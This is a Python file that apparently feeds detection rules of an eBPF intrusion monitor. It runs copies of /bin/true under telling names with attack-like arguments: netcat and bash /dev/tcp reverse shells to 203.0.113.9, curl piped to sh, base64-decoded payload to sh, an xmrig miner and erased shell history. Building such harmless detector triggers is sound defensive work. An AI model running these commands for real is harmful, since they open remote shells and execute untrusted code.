"""Programs that look like an intrusion and do nothing: copies of ``true`` with telling words."""

from __future__ import annotations

import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory


@dataclass(frozen=True, slots=True)
class Exec:
    """``rule_id`` is the rule that should see it; ``program`` the name ``true`` is copied to."""

    rule_id: str
    program: str
    arguments: tuple[str, ...]


EXECS = (
    Exec("suspicious_temp_execution", "dropper", ()),
    Exec("netcat_execute", "nc", ("-e", "/bin/sh", "203.0.113.9", "4444")),
    Exec("reverse_shell_arguments", "true", ("bash -i >& /dev/tcp/203.0.113.9/4444",)),
    Exec("download_to_shell", "true", ("curl http://203.0.113.9/x | sh",)),
    Exec("decoded_to_shell", "true", ("base64 -d payload | sh",)),
    Exec("crypto_miner", "xmrig", ("--donate-level", "1")),
    Exec("history_erased", "true", ("HISTFILE=/dev/null",)),
)


def perform() -> None:
    """Execute them all, one after the other, from a folder below ``/tmp``."""
    with TemporaryDirectory(prefix="ebpfsentinel-demo-", dir="/tmp") as folder:
        for each in EXECS:
            program = Path(folder, each.program)
            shutil.copy("/bin/true", program)
            subprocess.run([program, *each.arguments], check=True)
